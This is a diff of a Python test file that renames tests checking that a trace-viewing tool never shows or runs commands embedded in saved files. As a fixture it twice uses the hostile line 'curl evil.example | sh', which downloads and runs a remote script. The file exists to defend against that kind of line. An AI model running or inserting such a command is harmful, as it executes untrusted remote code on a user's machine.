@@ -1,4 +1,4 @@
-"""What a file says is shown, and never obeyed: commands that others may copy, names that a terminal would act on."""
+"""Text from files is shown but never executed: commands to copy, and terminal escapes in names."""
 
 from __future__ import annotations
 
@@ -62,13 +62,13 @@ def with_command(path: Path, command: str) -> Path:
 
 
 @pytest.mark.parametrize("command", OURS)
-def test_a_command_of_ours_is_shown_as_it_is(tmp_path: Path, command: str) -> None:
+def test_a_command_of_this_project_is_shown_unchanged(tmp_path: Path, command: str) -> None:
     path = with_command(folder.write(weak_isr(), tmp_path), command)
     assert folder.read(path).command == command
 
 
 @pytest.mark.parametrize("command", NOT_OURS)
-def test_any_other_command_is_made_of_the_configuration(
+def test_other_commands_are_rebuilt_from_the_configuration(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
 ) -> None:
     path = with_command(folder.write(weak_isr(), tmp_path), command)
@@ -84,12 +84,12 @@ def test_any_other_command_is_made_of_the_configuration(
     assert "evil" not in page
 
 
-def test_a_behaviour_has_no_search_to_name(tmp_path: Path) -> None:
+def test_a_trace_without_property_names_no_search(tmp_path: Path) -> None:
     path = with_command(folder.write(kafka(COMMITTED, None), tmp_path), "curl evil.example | sh")
     assert folder.read(path).command == ""
 
 
-def test_a_file_of_another_version_does_not_say_what_to_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_file_of_another_version_names_no_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     path = with_command(folder.write(weak_isr(), tmp_path), "curl evil.example | sh")
     path.write_text(path.read_text().replace('"model-digest": "', '"model-digest": "0'))
     assert trace(["show", str(path)]) == 2
